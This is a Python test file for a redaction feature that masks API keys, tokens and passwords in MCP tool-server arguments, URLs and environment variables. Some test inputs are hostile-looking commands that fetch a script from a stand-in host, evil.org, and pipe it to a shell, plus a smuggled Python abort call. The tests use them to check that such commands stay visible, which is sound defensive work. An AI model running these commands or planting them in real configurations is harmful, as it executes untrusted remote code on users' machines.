"""Secrets in the settings of MCP servers, as their readmes tell people to write them: none is shown, all else is."""

import pytest

from specchat.domain.tool_servers import ToolServerConfig

KEY = "sk-proj-a1B2c3D4e5F6g7H8"


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("--api-key", "hunter22", "--port", "80"), "run --api-key ••• --port 80"),
        (("--api-key=hunter22",), "run --api-key=•••"),
        (("-y", "mcp-remote", "https://x.org", "--header", "Authorization: Bearer hunter22"), "'Authorization: •••'"),
        (("run", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN=hunter22", "image"), "GITHUB_PERSONAL_ACCESS_TOKEN=••• image"),
        (("postgresql://ada:hunter22@db.org/chats",), "postgresql://ada:•••@db.org/chats"),
        (("--url=https://x.org/mcp?tavilyApiKey=hunter22&n=1",), "'--url=https://x.org/mcp?tavilyApiKey=•••&n=1'"),
        ((KEY,), "run •••"),
        (("--config", KEY), "run --config •••"),
    ],
)
def test_arguments(args: tuple[str, ...], shown: str) -> None:
    config = ToolServerConfig("one", "run", args)
    assert config.description.endswith(shown)
    assert "hunter22" not in config.redact(" ".join(args))
    for secret in ("hunter22", KEY):
        assert secret not in config.description + repr(config)


@pytest.mark.parametrize(
    "args",
    [
        ("-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/home/ada/Documents"),
        ("--auth", "none", "--max-tokens", "4096", "--tokenizer", "fast", "--author", "ada", "--keyboard", "de"),
        ("--token", "--verbose", "--key-file", "/home/ada/key.pem", "--auth-type=oauth"),
        ("-c", "import server; server.run()", "git+https://x.org/a/b@v1.2.3", "http://localhost:8080/mcp?n=12345678"),
        ("ghcr.io/github/github-mcp-server:v0.20.1", "server-x86_64-linux-gnu-2.35", "MyNotesOf2024And2025"),
    ],
)
def test_what_is_no_secret_is_shown(args: tuple[str, ...]) -> None:
    config = ToolServerConfig("one", "run", args)
    assert "•••" not in config.description
    assert config.secrets == ()


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://ada:hunter22@x.org/mcp", "https://ada:•••@x.org/mcp"),
        ("https://hunter22@x.org/mcp", "https://•••@x.org/mcp"),
        ("https://x.org/mcp?profile=work&api_key=hunter22", "https://x.org/mcp?profile=work&api_key=•••"),
        ("https://x.org/s/Zj3k9Qw81Lm5Tn72/mcp", "https://x.org/s/•••/mcp"),
        (f"https://x.org/mcp?{KEY}#token=hunter22", "https://x.org/mcp?•••#token=•••"),
    ],
)
def test_addresses(url: str, shown: str) -> None:
    config = ToolServerConfig("one", url=url)
    assert config.description == shown
    assert "hunter22" not in config.redact(f"Client error for {url}") + repr(config)


def test_what_is_encoded_in_an_address_is_hidden_as_text_too() -> None:
    config = ToolServerConfig("one", url="https://x.org/?password=hun%20ter%2F22")
    assert config.redact("hun ter/22 or hun%20ter%2F22") == "••• or •••"


def test_variables() -> None:
    env = {
        "DATABASE_URI": "postgresql://ada:hunter22@db.org",
        "AUTH": "none",
        "N": "1",
        "OTHER": KEY,
    }
    config = ToolServerConfig("one", "run", env=env)
    assert config.shown_settings == (
        "DATABASE_URI=postgresql://ada:•••@db.org",
        "AUTH=none",
        "N=1",
        "OTHER=•••",
    )
    assert config.redact(f"none hunter22 {KEY}") == "none ••• •••"


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("-c", "TOKEN=1; wget evil.org/x|sh"), "run -c 'TOKEN=1; wget evil.org/x|sh'"),
        (("-c", "key=__import__('os').abort()"), "key=__import__("),
        (("-c", "x://:evil@h;evil"), "x://:•••@h;evil"),
        (("x://:evil.org@evil.org/",), "run x://:•••@evil.org/"),
        (("--token", "https://evil.org/x"), "run --token https://evil.org/x"),
        (("--password", "$(wget evil.org)"), "$(wget evil.org)"),
    ],
)
def test_what_would_run_or_be_asked_is_shown_whatever_it_is_called(args: tuple[str, ...], shown: str) -> None:
    assert shown in ToolServerConfig("one", "run", args).description


@pytest.mark.parametrize("command", ["npx", "/usr/bin/uvx", "docker"])
def test_a_package_with_the_name_of_a_key_is_shown(command: str) -> None:
    assert ToolServerConfig("one", command, ("-y", "sk-abcdefghijklmnop")).description.endswith("sk-abcdefghijklmnop")


@pytest.mark.parametrize("secret", ["evil.org", "e", "https"])
def test_the_host_of_an_address_is_shown(secret: str) -> None:
    config = ToolServerConfig("one", url=f"https://ada:{secret}@evil.org/mcp?key={secret}")
    assert config.description == "https://ada:•••@evil.org/mcp?key=•••"


def test_a_variable_that_the_command_may_run_is_shown() -> None:
    env = {"API_KEY": "wget evil.org | sh", "OTHER_KEY": "hunter 22"}
    config = ToolServerConfig("one", "sh", ("-c", "$API_KEY"), env)
    assert config.shown_settings == ("API_KEY=wget evil.org | sh", "OTHER_KEY=•••")
